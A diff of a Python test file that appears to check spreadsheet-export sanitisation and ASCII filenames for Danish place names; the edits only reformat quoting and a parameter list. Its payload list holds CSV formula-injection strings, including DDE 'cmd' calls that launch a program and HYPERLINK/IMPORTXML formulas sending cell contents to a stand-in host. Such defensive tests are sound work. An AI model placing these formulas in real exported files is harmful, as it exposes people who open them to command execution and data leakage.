@@ -24,10 +24,10 @@ PAYLOADS = (
     "@SUM(A1:A9)",
     "\t=1+1",
     "\r=1+1",
-    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"klik\")",
+    '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
     "=cmd|' /C calc'!A0",
     "+cmd|' /C calc'!A0",
-    "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")",
+    '=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
 )
 LEADING = ("=", "+", "-", "@", "\t", "\r", "\n")
 WINDOWS_NAMES = re.compile(r"(con|prn|aux|nul|com\d|lpt\d)([._-]|$)", re.IGNORECASE)
@@ -254,7 +254,13 @@ def as_ascii(name: str) -> str:
 
 @pytest.mark.parametrize(
     ("name", "part"),
-    [("Læsø", "laesoe"), ("Ærø", "aeroe"), ("Ålborg", "aalborg"), ("Høje-Taastrup", "hoeje-taastrup"), ("a/b:c*", "a-b-c-")],
+    [
+        ("Læsø", "laesoe"),
+        ("Ærø", "aeroe"),
+        ("Ålborg", "aalborg"),
+        ("Høje-Taastrup", "hoeje-taastrup"),
+        ("a/b:c*", "a-b-c-"),
+    ],
 )
 def test_letters_and_signs_a_file_system_may_refuse_are_replaced(database: Path, name: str, part: str) -> None:
     assert database.exists()
